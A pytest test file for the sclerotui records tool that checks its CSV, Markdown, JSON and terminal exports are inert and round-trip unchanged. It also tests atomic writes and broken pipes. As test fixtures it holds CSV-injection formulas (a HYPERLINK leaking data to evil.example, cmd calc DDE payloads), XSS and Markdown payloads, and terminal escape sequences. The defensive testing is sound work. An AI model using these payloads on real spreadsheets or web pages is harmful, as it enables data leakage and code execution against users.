"""Exports are data, never instructions: CSV cells no spreadsheet runs, Markdown that renders
record text as that text, JSON and terminal output with every control character shown; all of
them read back unchanged. And output that survives its reader going away (`| head`), files
and databases that are written whole or not at all, CSV files that cannot be read or that
leave a quote open."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import resource
import signal
import sqlite3
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from hostile import BIDI, ESCAPES, MARKUP, NUL, build_hostile_db, load_hostile
from markdown_it import MarkdownIt

from sclerotui.cli import EXIT_BAD_INPUT, EXIT_BROKEN_PIPE, EXIT_OK, main
from sclerotui.compare import gather
from sclerotui.compare import to_markdown as compare_markdown
from sclerotui.export import cell, markdown_block, record_markdown, to_json
from sclerotui.importers.csv_cases import decode_cell, encode_cell
from sclerotui.models import Dataset, Source
from sclerotui.store import Store
from sclerotui.text import CONTROLS as APP_CONTROLS
from sclerotui.text import INVISIBLE, shown

ROOT = Path(__file__).resolve().parent.parent
RAW_INVISIBLE = re.compile(f"[{INVISIBLE}]")  # what no exported file may hold raw
RAW_CONTROL = re.compile(f"[{APP_CONTROLS}]")  # what no terminal output may hold raw

# Spreadsheet payloads (OWASP "CSV injection"), Markdown and HTML that would do something.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
APOSTROPHES = ["'Twas a genuine apostrophe", "''two of them", "'=already quoted", "'\\u001b"]
MARKDOWN = [
    "<script>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    '<iframe src="http://evil.example/"></iframe>',
    "[click me](javascript:alert(1))",
    "![](http://evil.example/track.png)",
    "<http://evil.example/autolink>",
    "&lt;b&gt; &amp;",
    "a | b | c",
    "*em* _em_ **strong** ~~struck~~ `code` $math$",
]
NARRATIVE = "\n".join(
    [
        "'Twas a narrative that starts with an apostrophe.",
        "# Forged section",
        "## Case: forged case",
        "```",
        "an unclosed code fence",
        "",
        "    indented after a blank line",
        "- a list item",
        "1. an ordered item",
        "> a quote",
        "---",
        "===",
        "[ref]: http://evil.example/",
        *MARKDOWN,
        *FORMULAS,
        "C:\\path\\u001b with a backslash " + ESCAPES["osc52"] + NUL + BIDI,
    ]
)


def sheet_case_data() -> dict:
    """A case and a trial holding the payloads above, referring to the hostile therapies."""
    source = {
        "id": "x-src",
        "kind": "citation",
        "citation": FORMULAS[1] + " " + MARKDOWN[3],
        "verified": False,
    }
    case = {
        "id": "x-sheet",
        "title": FORMULAS[0] + " " + MARKDOWN[0] + " | pipe\nand a newline",
        "age_band": FORMULAS[4],
        "subtype": "diffuse",
        "therapies": [
            {"therapy": "h-markup", "response": "resistant", "note": MARKDOWN[1] + " | x"}
        ],
        "narrative": NARRATIVE,
        "illustrative": True,
        "sources": ["x-src"],
    }
    owner = {"case": "x-sheet"}
    events = [
        {"id": "x-dx", **owner, "week": -4, "kind": "diagnosis", "note": FORMULAS[2]},
        {
            "id": "x-change",
            **owner,
            "week": 12,
            "kind": "measurement",
            "measure": "mRSS",
            "statistic": "change",
            "value": -0.5,
            "unit": FORMULAS[3],
            "note": APOSTROPHES[0],
            "source": "x-src",
            "verified": False,
        },
        {
            "id": "x-precise",
            **owner,
            "week": 24.123456789,
            "kind": "measurement",
            "measure": "mRSS",
            "value": 12.3456789012,
            "unit": APOSTROPHES[1],
            "note": APOSTROPHES[2] + " " + MARKDOWN[4],
            "source": "x-src",
            "verified": True,
        },
        {"id": "x-note", **owner, "week": 30, "kind": "procedure", "note": APOSTROPHES[3]},
    ]
    trial = {
        "id": "x-trial",
        "name": MARKDOWN[2] + " | " + FORMULAS[0],
        "design": MARKDOWN[3],
        "evidence_type": "rct",
        "population": "# not a heading",
        "therapies": ["h-markup"],
        "arms": [
            {"id": "a", "name": "Arm | one", "therapy": "h-markup", "intervention": MARKDOWN[4]}
        ],
        "results": MARKDOWN[8],
        "findings": [
            {
                "measure": "mRSS",
                "arm": "a",
                "timepoint_weeks": 52,
                "value": -0.5,
                "effect": MARKDOWN[3],
                "source": "x-src",
                "verified": False,
            }
        ],
        "sources": ["x-src"],
        "verified": False,
    }
    return {"sources": [source], "trials": [trial], "cases": [case], "events": events}


def run(capsys, *argv) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> Path:
    """The hostile records (tests/hostile.py) plus the spreadsheet and Markdown payloads."""
    directory = tmp_path_factory.mktemp("corpus")
    path = build_hostile_db(directory / "hostile.db")
    extra = directory / "sheet.json"
    extra.write_text(json.dumps(sheet_case_data()), encoding="utf-8")
    assert main(["--db", str(path), "import", str(extra)]) == EXIT_OK
    return path


@pytest.fixture
def hostile_db(corpus, tmp_path) -> Path:
    """A copy of the corpus a test may change."""
    copy = tmp_path / "corpus.db"
    copy.write_bytes(corpus.read_bytes())
    return copy


def without_cases(directory: Path) -> Path:
    """A database holding everything of the corpus but its cases and their events: where a
    CSV of the cases is imported back."""
    data = load_hostile(directory)
    data.cases = []
    data.events = [event for event in data.events if event.trial]
    path = directory / "target.db"
    with Store(path, create=True) as store:
        store.write_dataset(data, "base")
    sheet = sheet_case_data()
    sheet.pop("cases"), sheet.pop("events")
    extra = directory / "trial.json"
    extra.write_text(json.dumps(sheet), encoding="utf-8")
    assert main(["--db", str(path), "import", str(extra)]) == EXIT_OK
    return path


def case_records(path: Path) -> tuple[dict, dict]:
    """Cases and case events as the CSV format carries them (it has no therapy-step notes,
    and names a source by its text, so source ids are the importer's)."""
    with Store(path, read_only=True) as store:
        data = store.all_records()
        citations = {s.id: s.ref or s.citation for s in data.sources}
        cases = {}
        for case in data.cases:
            record = case.model_dump(mode="json", exclude={"origin", "sources", "evidence_type"})
            for step in record["therapies"]:
                step.pop("note", None)
            record["source"] = citations[case.sources[0]]
            cases[case.id] = record
        events = {
            event.id: {
                **event.model_dump(mode="json", exclude={"source"}),
                "source": citations.get(event.source or ""),
            }
            for event in data.events
            if event.case
        }
    return cases, events


# -- CSV -----------------------------------------------------------------------------------


@pytest.mark.parametrize("value", [*FORMULAS, "\t=1+1", "\r=1+1", "-", "+"])
def test_a_cell_a_spreadsheet_would_run_is_marked_with_an_apostrophe(value):
    encoded = encode_cell(value)
    assert encoded == "'" + value.replace("\r", "\\u000d")
    assert decode_cell(encoded) == value


@pytest.mark.parametrize("value", ["-0.5", "-1.7976931348623157e+308", "5e-324", "0", "42"])
def test_a_number_is_no_formula_and_stays_a_number(value):
    assert encode_cell(value) == value
    assert decode_cell(value) == value


@pytest.mark.parametrize(
    ("value", "encoded"),
    [
        ("'Twas", "''Twas"),
        ("'\\u001b", "''\\\\u001b"),  # a genuine backslash after an apostrophe stays
        ("=a\\b", "'=a\\\\b"),
        ("esc \x1b[2J bell \x07", "'esc \\u001b[2J bell \\u0007"),
        ("nul \x00 del \x7f c1 \x9b", "'nul \\u0000 del \\u007f c1 \\u009b"),
        ("bidi \u202e tag \U000e0041 lrm \u200e", "'bidi \\u202e tag \\U000e0041 lrm \\u200e"),
        ("line\nbreak and\ttab", "line\nbreak and\ttab"),  # quoted by the CSV writer
        ("C:\\new", "C:\\new"),  # an unmarked cell is taken as written
    ],
)
def test_controls_and_apostrophes_are_escaped_reversibly(value, encoded):
    assert encode_cell(value) == encoded
    assert decode_cell(encoded) == value


def test_an_unmarked_cell_is_read_as_written():
    """Hand-made CSV files keep their backslashes: escapes count only after the mark."""
    assert decode_cell("C:\\u001b\\\\") == "C:\\u001b\\\\"
    assert decode_cell("'\\ud800 \\U00110000 \\x") == "\\ud800 \\U00110000 \\x"  # no character


def test_csv_export_of_hostile_cases_is_inert_and_imports_back_unchanged(
    capsys, hostile_db, tmp_path
):
    exported = tmp_path / "cases.csv"
    code, _, err = run(capsys, "--db", hostile_db, "export", "kind:case", "--format", "csv")
    assert code == EXIT_OK, err
    code, _, err = run(
        capsys, "--db", hostile_db, "export", "kind:case", "--format", "csv", "-o", exported
    )
    assert code == EXIT_OK, err
    text = exported.read_text(encoding="utf-8")
    assert not RAW_INVISIBLE.search(text)  # no NUL, ESC, C1, bidi: escaped
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [value for row in rows for value in row]
    for value in cells:  # nothing a spreadsheet runs; numbers stay numbers
        assert not value.startswith(("=", "+", "@", "\t", "\r")), value
        assert not value.startswith("-") or re.fullmatch(r"-[0-9.e+-]+", value), value
    change = next(row for row in rows if row[11] == "x-change")
    assert change[18] == "-0.5" and change[12] == "12"
    assert next(row for row in rows if row[11] == "x-dx")[12] == "-4"

    target = without_cases(tmp_path)
    code, _, err = run(capsys, "--db", target, "import", exported)
    assert code == EXIT_OK, err
    assert case_records(target) == case_records(hostile_db)
    cases, events = case_records(target)
    assert cases["x-sheet"]["narrative"] == NARRATIVE
    assert cases["x-sheet"]["age_band"] == FORMULAS[4]
    assert events["x-change"]["value"] == -0.5 and events["x-change"]["unit"] == FORMULAS[3]
    assert events["x-precise"]["value"] == 12.3456789012  # every digit, not six
    assert events["x-note"]["note"] == APOSTROPHES[3]
    assert "nul\x00byte" in cases["h-case-edges"]["title"]


# -- Markdown ------------------------------------------------------------------------------


def test_markdown_escapes_are_as_expected():
    """A golden sample: every character that would be markup is escaped, nothing else."""
    assert cell(
        '<script>alert("x")</script> | [a](javascript:b) ![](http://e/i.png) `x` *y* _z_ '
        "~~s~~ $m$ &amp; #h \\ tail"
    ) == (
        '\\<script\\>alert("x")\\</script\\> \\| \\[a\\](javascript:b) !\\[\\](http://e/i.png) '
        "\\`x\\` \\*y\\* \\_z\\_ \\~\\~s\\~\\~ \\$m\\$ \\&amp; \\#h \\\\ tail"
    )
    assert cell("a\nb\x1b[2J\u202e") == "a b␛\\[2J\\\\u202e"
    assert markdown_block(
        "# Forged\n```\n- item\n+ plus\n1. one\n2) two\n---\n\n\n    code?\n> quote\nend \\"
    ) == (
        "\\# Forged\\\n\\`\\`\\`\\\n\\- item\\\n\\+ plus\\\n1\\. one\\\n2\\) two\\\n\\---"
        "\n\n&#32;&#32;&#32;&#32;code?\\\n\\> quote\\\nend \\\\"
    )


def tokens(markdown: str) -> list:
    """The Markdown as a CommonMark reader with GitHub tables and strikethrough sees it."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return parser.parse(markdown)


def rendered(inline) -> str:
    """The text an inline token shows."""
    parts = []
    for child in inline.children or []:
        if child.type in ("text", "code_inline"):
            parts.append(child.content)
        elif child.type in ("softbreak", "hardbreak"):
            parts.append("\n")
    return "".join(parts)


OUR_EMPHASIS = {
    "unverified",
    "primary result unverified",
    "Illustrative case",
    "Note:",
    "Includes unverified values",
}


def assert_renders_as_text(markdown: str, emphasis: set[str] = OUR_EMPHASIS) -> list[str]:
    """No HTML, link, image or code from record text; emphasis only the dossier's own; code
    blocks only the plots. Returns the text of every heading, cell and paragraph."""
    found = tokens(markdown)
    kinds = {token.type for token in found}
    for inline in (t for t in found if t.type == "inline"):
        kinds |= {child.type for child in inline.children or []}
        children = inline.children or []
        for index, child in enumerate(children):
            if child.type in ("strong_open", "em_open"):
                text = children[index + 1].content
                ours = text.startswith(("Exported from sclerotui", "From sclerotui."))
                assert text in emphasis or ours, text
    forbidden = {"html_block", "html_inline", "link_open", "image", "code_block", "code_inline"}
    assert not kinds & (forbidden | {"s_open", "ordered_list_open"}), kinds
    for index, token in enumerate(found):  # the illustrative-case line is the only quote
        if token.type == "blockquote_open":
            assert rendered(found[index + 2]).startswith("Illustrative case")
    for fence in (t for t in found if t.type == "fence"):
        first = fence.content.splitlines()[0]
        plot = " ┤" in first or first.endswith(" only: one time point, no trend to plot")
        assert fence.info == "" and plot, fence.content
    return [rendered(t) for t in found if t.type == "inline"]


def normal(text: str) -> str:
    """Whitespace as a reader sees it in rendered Markdown: any run of it, one space."""
    return " ".join(text.split())


def headings(markdown: str) -> list[str]:
    found = tokens(markdown)
    return [
        rendered(found[index + 1])
        for index, token in enumerate(found)
        if token.type == "heading_open"
    ]


def test_a_dossier_renders_record_text_as_that_text_and_nothing_else(hostile_db):
    """The dossier the app's `e` writes for the case holding the payloads."""
    with Store(hostile_db, read_only=True) as store:
        markdown = record_markdown(store, "case", "x-sheet")
    texts = assert_renders_as_text(markdown)
    case = sheet_case_data()["cases"][0]
    title = shown(" ".join(case["title"].split()), multiline=False)
    assert headings(markdown) == [
        "sclerotui: " + title,
        "Case: " + title,
        "Timeline",
        "References",
    ]
    assert normal(shown(case["narrative"])) in normal(" ".join(texts))
    # Each table cell holds its whole text: no `|` or newline split it.
    assert shown(MARKDOWN[1] + " | x") in texts  # the therapy step's note
    assert FORMULAS[2] in texts  # an event's note
    assert f"-0.5 {FORMULAS[3]} unverified" in texts  # its value, unit and the dossier's flag
    assert not RAW_INVISIBLE.search(markdown)


def test_every_hostile_record_dossier_renders_as_text(capsys, hostile_db):
    code, markdown, err = run(capsys, "--db", hostile_db, "export", "--format", "md")
    assert code == EXIT_OK, err
    assert_renders_as_text(markdown)
    with Store(hostile_db, read_only=True) as store:
        counts = store.counts()
    records = counts["therapies"] + counts["trials"] + counts["cases"]
    sections = [h for h in headings(markdown) if h.startswith(("Therapy: ", "Trial: ", "Case: "))]
    assert len(sections) == records  # no forged section
    assert set(headings(markdown)) - set(sections) == {
        "sclerotui dossier: all records",
        "Timeline",
        "References",
    }
    trial = next(h for h in sections if h.startswith("Trial: <iframe"))
    assert trial == "Trial: " + MARKDOWN[2] + " | " + FORMULAS[0]
    assert not RAW_INVISIBLE.search(markdown)


def test_a_comparison_renders_record_text_as_that_text(hostile_db):
    """The comparison's export (the app's `c`, then `e`): record text is escaped there too;
    its own `<br>` line breaks are the only HTML."""
    with Store(hostile_db, read_only=True) as store:
        columns = gather(store, ["h-markup", "h-escape", "h-unicode", "h-long"])
    markdown = compare_markdown(columns, {})
    html = [t for t in tokens(markdown) for t in [t, *(t.children or [])] if "html" in t.type]
    assert {t.content for t in html} == {"<br>"}
    names = {shown(" ".join(c.therapy.name.split()), multiline=False) for c in columns}
    texts = assert_renders_as_text(markdown.replace("<br>", " "), OUR_EMPHASIS | names)
    assert any(f"Endpoint {MARKUP['bold']} → Results {MARKUP['bold']}" in t for t in texts)
    assert any(f"{MARKDOWN[2]} | {FORMULAS[0]} (RCT" in t for t in texts)  # the x-trial's name
    assert any(f"→ {MARKDOWN[8]}" in t for t in texts)  # its results, not emphasis or code
    assert headings(markdown)[0].startswith("Therapy comparison: Markup [bold red]x[/]")
    assert not RAW_INVISIBLE.search(markdown)


# -- JSON ----------------------------------------------------------------------------------


def test_json_export_escapes_invisible_characters_and_imports_back_unchanged(
    capsys, hostile_db, tmp_path
):
    exported = tmp_path / "all.json"
    assert run(capsys, "--db", hostile_db, "export", "-o", exported)[0] == EXIT_OK
    text = exported.read_text(encoding="utf-8")
    assert not RAW_INVISIBLE.search(text)
    assert "\\u202e" in text and "\\u009b" in text and "\\u200e" in text
    empty = tmp_path / "empty.db"
    assert run(capsys, "db", "create", empty)[0] == EXIT_OK
    code, _, err = run(capsys, "--db", empty, "import", exported)
    assert code == EXIT_OK, err

    def records(path):
        with Store(path, read_only=True) as store:
            data = store.all_records()
        return {
            key: sorted(
                (r.model_dump(mode="json", exclude={"origin"}) for r in getattr(data, key)),
                key=lambda r: r["id"],
            )
            for key in ("sources", "therapies", "trials", "cases", "events")
        }

    assert records(empty) == records(hostile_db)


def test_json_spells_characters_beyond_the_bmp_as_surrogate_pairs():
    text = "tag \U000e0041 rlo \u202e csi \x9b"
    source = Source(id="s", kind="citation", citation=text, verified=False)
    exported = to_json(Dataset(sources=[source]))
    assert "tag \\udb40\\udc41 rlo \\u202e csi \\u009b" in exported
    assert json.loads(exported)["sources"][0]["citation"] == text


def test_invisible_is_every_control_format_and_separator_character():
    """INVISIBLE is Unicode's Cc, Cf, Zl and Zp but tab, newline and the zero-width
    (non-)joiners that scripts and emoji need; it holds what the app shows (CONTROLS)."""
    wanted = {
        code
        for code in range(0x110000)
        if unicodedata.category(chr(code)) in ("Cc", "Cf", "Zl", "Zp")
    } - {0x09, 0x0A, 0x200C, 0x200D}
    matched = {code for code in range(0x110000) if RAW_INVISIBLE.match(chr(code))}
    assert wanted <= matched
    assert {c for c in matched - wanted if unicodedata.category(chr(c)) != "Cn"} == set()
    app = {code for code in range(0x110000) if RAW_CONTROL.match(chr(code))}
    assert app <= matched


# -- terminal output -----------------------------------------------------------------------


def test_every_command_prints_controls_as_visible_symbols(capsys, hostile_db, tmp_path):
    hostile_file = tmp_path / ("import " + ESCAPES["clear"] + ESCAPES["osc52"] + ".json")
    hostile_file.write_text(json.dumps(sheet_case_data()), encoding="utf-8")
    missing = tmp_path / ("missing " + ESCAPES["osc8"] + ".csv")
    commands = [
        ("search", "escape"),
        ("search", "markup"),
        ("search", "x-sheet"),
        ("search", "--json", "escape"),
        ("export",),
        ("export", "--format", "csv"),
        ("export", "--format", "md"),
        ("db", "stats"),
        ("db", "check", hostile_db),
        ("import", "--check", hostile_file),  # refused: the records are in the database
        ("import", "--check", missing),
        ("search", "subtype:" + ESCAPES["clear"]),
    ]
    outputs = []
    for command in commands:
        code, out, err = run(capsys, "--db", hostile_db, *command)
        outputs.append(out + err)
        assert out or err, command
        for stream in (out, err):
            match = RAW_CONTROL.search(stream)
            assert match is None, f"{command}: raw {match.group()!r}"
        if command[0] == "export":
            assert code == EXIT_OK and not RAW_INVISIBLE.search(out), command
    assert "import ␛[2J␛]52;c;SGVsbG8=␇.json" in outputs[-3]  # the file name, shown
    assert "missing ␛]8;;http:" in outputs[-2]


# -- broken pipes --------------------------------------------------------------------------


def sclerotui(*argv, **options) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "-m", "sclerotui", *map(str, argv)],
        cwd=ROOT,
        stderr=subprocess.PIPE,
        **options,
    )


@pytest.mark.parametrize(
    "command",
    [
        ("db", "stats"),
        ("search", "a", "--limit", "50"),
        ("export",),
        ("export", "--format", "csv"),
        ("export", "--format", "md"),
        ("db", "check"),
    ],
)
def test_output_into_a_pipe_nobody_reads_ends_quietly(mini_db, command):
    """The reader is gone before anything is written (deterministic): no traceback, no
    "Exception ignored" at exit, and the status of a tool stopped by SIGPIPE."""
    process = sclerotui("--db", mini_db, *command, stdout=subprocess.PIPE)
    process.stdout.close()
    _, err = process.communicate(timeout=600)
    assert err == b"" and process.returncode == EXIT_BROKEN_PIPE


def test_search_piped_into_head_stops_quietly(synthetic_store):
    """`sclerotui search a --limit 2000 | head -1`: 270 kB of results, more than a pipe
    holds, so writing goes on after head has its line and has gone."""
    process = sclerotui(
        "--db", synthetic_store.path, "search", "a", "--limit", "2000", stdout=subprocess.PIPE
    )
    head = subprocess.Popen(["head", "-1"], stdin=process.stdout, stdout=subprocess.PIPE)
    process.stdout.close()
    out, _ = head.communicate(timeout=600)
    _, err = process.communicate(timeout=600)
    assert out.startswith(b"therapy ") and out.count(b"\n") == 1
    assert err == b"", err.decode()
    assert process.returncode == EXIT_BROKEN_PIPE


# -- files written whole or not at all ----------------------------------------------------


def full_disk_after(monkeypatch, directory: Path, allowed: int) -> None:
    """os.write into `directory` fails with ENOSPC once `allowed` bytes are written there."""
    real_write = os.write
    written = {"bytes": 0}

    def write(fd, data):
        if os.readlink(f"/proc/self/fd/{fd}").startswith(str(directory)):
            if written["bytes"] + len(data) > allowed:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            written["bytes"] += len(data)
        return real_write(fd, data)

    monkeypatch.setattr(os, "write", write)


def test_export_on_a_full_disk_keeps_the_old_file_and_leaves_no_partial_one(
    capsys, mini_db, tmp_path, monkeypatch
):
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    old = out_dir / "old.json"
    old.write_text("the previous export\n")
    old.chmod(0o640)
    full_disk_after(monkeypatch, out_dir, 1000)
    code, _, err = run(capsys, "--db", mini_db, "export", "-o", old)
    assert code == EXIT_BAD_INPUT
    assert err == f"sclerotui: cannot write {old}: No space left on device; the file is as it was\n"
    new = out_dir / "new.json"
    code, _, err = run(capsys, "--db", mini_db, "export", "-o", new)
    assert err.endswith("No space left on device; no file was created\n")
    assert sorted(p.name for p in out_dir.iterdir()) == ["old.json"]  # no temporary left
    assert old.read_text() == "the previous export\n" and (old.stat().st_mode & 0o777) == 0o640
    monkeypatch.undo()
    assert run(capsys, "--db", mini_db, "export", "-o", old)[0] == EXIT_OK
    assert json.loads(old.read_text())["cases"] and (old.stat().st_mode & 0o777) == 0o640


def test_export_through_a_link_or_to_a_device_writes_there(capsys, mini_db, tmp_path):
    real = tmp_path / "real.md"
    link = tmp_path / "link.md"
    link.symlink_to(real)
    assert run(capsys, "--db", mini_db, "export", "--format", "md", "-o", link)[0] == EXIT_OK
    assert link.is_symlink() and real.read_text().startswith("# sclerotui dossier")
    assert (real.stat().st_mode & 0o777) == 0o600
    code, _, err = run(capsys, "--db", mini_db, "export", "-o", "/dev/null")
    assert code == EXIT_OK and Path("/dev/null").is_char_device(), err


def limited_file_size(limit: int):
    def limit_files() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past it fails: EFBIG

    return limit_files


@pytest.mark.parametrize("existing", [False, True])
def test_export_past_a_file_size_limit_leaves_nothing_partial(hostile_db, tmp_path, existing):
    """The kernel's own failure, as on a full disk: in a process whose files may not grow
    past 50,000 bytes (the database's shared-memory file needs 32,768; the export is bigger)."""
    target = tmp_path / "out" / "export.json"
    target.parent.mkdir()
    if existing:
        target.write_text("old\n")
    process = sclerotui(
        "--db",
        hostile_db,
        "--read-only",
        "export",
        "-o",
        target,
        stdout=subprocess.PIPE,
        preexec_fn=limited_file_size(50_000),
    )
    _, err = process.communicate(timeout=600)
    assert process.returncode == EXIT_BAD_INPUT
    assert err.decode().startswith(f"sclerotui: cannot write {target}: File too large")
    assert [p.name for p in target.parent.iterdir()] == (["export.json"] if existing else [])
    assert not existing or target.read_text() == "old\n"


def test_db_build_that_fails_leaves_no_database(tmp_path):
    target = tmp_path / "new" / "built.db"
    target.parent.mkdir()
    process = sclerotui(
        "db",
        "build",
        "--out",
        target,
        stdout=subprocess.PIPE,
        preexec_fn=limited_file_size(50_000),
    )
    _, err = process.communicate(timeout=600)
    assert process.returncode == EXIT_BAD_INPUT
    lines = err.decode().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"sclerotui: cannot use {target}: ")
    assert lines[0].endswith("; nothing was changed")
    assert list(target.parent.iterdir()) == []  # neither an empty database nor a temporary
    process = sclerotui("db", "build", "--out", target, stdout=subprocess.PIPE)
    out, err = process.communicate(timeout=600)
    assert process.returncode == EXIT_OK, err
    assert out.decode().startswith(f"created {target}: ")
    assert [p.name for p in target.parent.iterdir()] == ["built.db"]
    assert (target.stat().st_mode & 0o777) == 0o600


def test_db_build_on_a_full_disk_in_process(capsys, tmp_path, monkeypatch):
    def full(*args, **kwargs):
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(Store, "replace_origin", full)
    target = tmp_path / "built.db"
    code, out, err = run(capsys, "db", "build", "--out", target)
    assert code == EXIT_BAD_INPUT and out == ""
    assert err == (
        f"sclerotui: cannot use {target}: database or disk is full; nothing was changed\n"
    )
    assert list(tmp_path.iterdir()) == []


def test_db_build_refresh_that_fails_changes_nothing(capsys, mini_db, monkeypatch):
    with Store(mini_db, read_only=True) as store:
        before = store.counts()

    def full(self, *args, **kwargs):
        with self.transaction():
            self.conn.execute("DELETE FROM events")
            raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(Store, "replace_origin", full)
    code, _, err = run(capsys, "db", "build", "--out", mini_db)
    assert code == EXIT_BAD_INPUT
    assert err == (
        f"sclerotui: cannot use {mini_db}: database or disk is full; nothing was changed\n"
    )
    with Store(mini_db, read_only=True) as store:
        assert store.counts() == before


# -- CSV files that cannot be read ----------------------------------------------------------

EXAMPLE_CSV = ROOT / "db" / "examples" / "clinic-cases.csv"


def test_an_unreadable_csv_is_one_line(capsys, mini_db, tmp_path, monkeypatch):
    """Runs as root too: reading the file is made to fail as it does without permission."""
    target = tmp_path / "cases.csv"
    target.write_bytes(EXAMPLE_CSV.read_bytes())
    real = Path.read_bytes

    def read_bytes(self):
        if self == target:
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(self))
        return real(self)

    monkeypatch.setattr(Path, "read_bytes", read_bytes)
    before = mini_db.read_bytes()
    code, out, err = run(capsys, "--db", mini_db, "import", target)
    assert code == EXIT_BAD_INPUT
    assert err == f"sclerotui: {target}: cannot read: Permission denied\n"
    assert mini_db.read_bytes() == before


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads a file whatever its mode")
def test_a_csv_without_read_permission_is_one_line(capsys, mini_db, tmp_path):
    target = tmp_path / "cases.csv"
    target.write_bytes(EXAMPLE_CSV.read_bytes())
    target.chmod(0)
    code, _, err = run(capsys, "--db", mini_db, "import", target)
    assert code == EXIT_BAD_INPUT
    assert err == f"sclerotui: {target}: cannot read: Permission denied\n"


@pytest.mark.parametrize(
    ("line", "what"),
    [
        (1, 'runs on to line 2 (a " is missing, or one too many)'),
        (2, 'is not closed where it should be (a " is missing, or one too many)'),
        (3, 'is never closed (a " is missing); it ran to the end of the file'),
    ],
)
def test_a_quote_left_open_is_reported_with_its_line(capsys, mini_db, tmp_path, line, what):
    """Not as empty or shifted cells (line 2's quote closes at its narrative's opening quote),
    nor imported with the rest of the file swallowed into one value (line 3, before)."""
    lines = EXAMPLE_CSV.read_text(encoding="utf-8").splitlines(keepends=True)
    lines[line - 1] = lines[line - 1].replace(",", ',"', 1)  # a quote opened, never closed
    target = tmp_path / "cases.csv"
    target.write_text("".join(lines), encoding="utf-8")
    before = mini_db.read_bytes()
    code, _, err = run(capsys, "--db", mini_db, "import", target)
    assert code == EXIT_BAD_INPUT
    assert err == f"sclerotui: {target}: line {line}: a quoted value opened on this row {what}\n"
    assert mini_db.read_bytes() == before


def test_a_quote_closed_at_the_end_of_the_file_is_fine(capsys, mini_db, tmp_path):
    """The check looks only at a row that ran to the end: a last row quoted properly is
    read, and so is a stray quote inside a value (as spreadsheets write them)."""
    text = EXAMPLE_CSV.read_text(encoding="utf-8").rstrip("\n")
    text = text.replace("Mycophenolate started", 'Mycophenolate "MMF" started', 1)
    target = tmp_path / "cases.csv"
    target.write_text(text[: text.rindex(",")] + ',"yes"', encoding="utf-8")
    code, _, err = run(capsys, "--db", mini_db, "import", "--check", target)
    assert code == EXIT_OK, err
